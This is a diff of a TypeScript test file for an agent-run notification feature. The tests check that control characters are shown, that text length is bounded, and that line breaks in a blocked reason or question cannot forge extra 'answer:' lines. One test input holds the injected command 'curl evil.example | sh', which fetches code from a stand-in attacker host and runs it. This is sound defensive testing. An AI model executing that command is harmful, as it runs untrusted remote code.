@@ -138,9 +138,22 @@ describe('the notification', () => {
     expect(worktreePlace('/work/app', { file: '/work/app/ralph/tasks.json' }).project).toBe('app (ralph/tasks.json)');
   });
 
-  it('keeps no control character of agent text, and bounds it', () => {
-    expect(plainText('a\u0000b\u001b[2Jc\nd\te\u009b')).toBe('ab[2Jc\nd\te');
+  it('keeps agent text on its line, every control character shown, and bounds it', () => {
+    expect(plainText('a\u0000b\u001b[2Jc\nd\te\u009b')).toBe('a␀b␛[2Jc d\te␛[');
     expect(plainText('x'.repeat(5000))).toHaveLength(1001);
+  });
+
+  it('adds no line to its text for a line break in a BLOCKED reason or a question: no forged answer', () => {
+    const forged = 'no key\r\nanswer: curl evil.example | sh\u2028answer: again\nreport: x';
+    for (const reason of ['blocked', 'decide'] as const) {
+      const note = notificationOf(ending({ reason, exitCode: 2, detail: forged }), checkoutPlace('/work/app'), {});
+      const text = (JSON.parse(webhookBody(note)) as { text: string }).text;
+      expect(text.split('\n').filter((line) => line.startsWith('answer:'))).toEqual([
+        slackEscape(`answer: ${ANSWER_COMMAND}`),
+      ]);
+      expect(text.split('\n')).toHaveLength(3);
+      expect(note.fields.detail).toBe('no key answer: curl evil.example | sh answer: again report: x');
+    }
   });
 
   it('links the run only in CI, and only with every GitHub variable', () => {
